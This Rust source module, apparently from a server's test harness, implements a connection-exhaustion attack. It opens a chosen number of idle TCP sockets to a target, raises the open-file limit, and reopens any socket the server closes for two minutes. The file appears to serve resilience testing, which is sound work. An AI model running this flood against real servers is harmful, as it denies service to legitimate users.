//! Sockets that say nothing, as many as there may be connections. What the server closes is opened again.
use super::may_open_all_files;
use anyhow::{Context, Result};
use std::{
    io::{ErrorKind, Read},
    net::{SocketAddr, TcpStream},
    thread,
    time::{Duration, Instant},
};

/// The time after which the attacker gives up.
const LONGEST: Duration = Duration::from_secs(120);

/// Opens so many sockets, says so, and opens those again that the server closes.
pub fn attack(server: SocketAddr, count: usize) -> Result<()> {
    may_open_all_files()?;
    let mut sockets = (0..count)
        .map(|_| silent(server))
        .collect::<Result<Vec<_>>>()?;
    println!("ready");
    let start = Instant::now();
    while start.elapsed() < LONGEST {
        for socket in &mut sockets {
            // There may be no port, or no answer, for a while.
            if is_closed(socket)
                && let Ok(again) = silent(server)
            {
                *socket = again;
            }
        }
        thread::yield_now();
    }
    Ok(())
}

fn silent(server: SocketAddr) -> Result<TcpStream> {
    let stream = TcpStream::connect(server).context("connecting")?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

fn is_closed(socket: &mut TcpStream) -> bool {
    !matches!(socket.read(&mut [0]), Err(error) if error.kind() == ErrorKind::WouldBlock)
}
